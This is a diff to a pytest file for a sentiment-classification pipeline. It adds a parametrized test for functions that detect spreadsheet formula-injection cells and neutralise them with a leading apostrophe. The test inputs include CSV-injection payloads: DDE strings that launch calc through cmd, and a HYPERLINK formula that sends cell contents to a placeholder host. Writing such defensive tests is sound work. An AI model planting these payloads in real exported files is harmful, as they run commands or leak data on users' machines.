@@ -638,13 +638,14 @@ def test_another_stage_s_own_option_comes_before_a_valid_name_it_only_starts(bin
         Pipeline("count", "logreg", ngram=2).fit(binary.train_texts, binary.train_labels)
 
 
-def test_fit_refuses_label_names_that_a_spreadsheet_would_run(binary):
-    formula = ["=cmd()" if label == "pos" else label for label in binary.train_labels]
-    with pytest.raises(DataError, match=r"the label '=cmd\(\)' starts as a spreadsheet formula does, which a CSV of "
-                                        r"predictions opened in Excel or LibreOffice would run; rename it"):
-        Pipeline("tfidf", "logreg").fit(binary.train_texts, formula)
-    with pytest.raises(DataError, match="the label '@x' starts as a spreadsheet formula does"):
-        Pipeline("tfidf", "logreg").fit(binary.train_texts, binary.train_labels, label_names={"neg": "n", "pos": "@x"})
-    signs = ["+ve" if label == "pos" else "-ve" for label in binary.train_labels]  # no function call: kept
-    assert set(Pipeline("tfidf", "logreg").fit(binary.train_texts, signs).label_names_) == {"+ve", "-ve"}
+@pytest.mark.parametrize("cell, runs", [
+    ('=HYPERLINK("http://x/?"&A1,"neg")', True), ("@SUM(1+1)", True), ('+cmd|" /C calc"!A0', True),
+    ("-2+cmd|' /C calc'!A0", True), ("\t=1+1", True), ("\uff1dSUM(A1)", True), ("- sum (A1)", True), ("=)", True),
+    ("-1", False), ("+ve", False), ("-1 (negative)", False), ("+1 (positive)", False), ("-", False), ("@", False),
+    ("positive", False), ("😀", False),
+])
+def test_cells_a_spreadsheet_would_run_are_written_as_plain_text(cell, runs):
+    from sentiment.checks import spreadsheet_formula, spreadsheet_safe
 
+    assert spreadsheet_formula(cell) is runs
+    assert spreadsheet_safe([cell, 0.5, None]) == [("'" + cell) if runs else cell, 0.5, None]
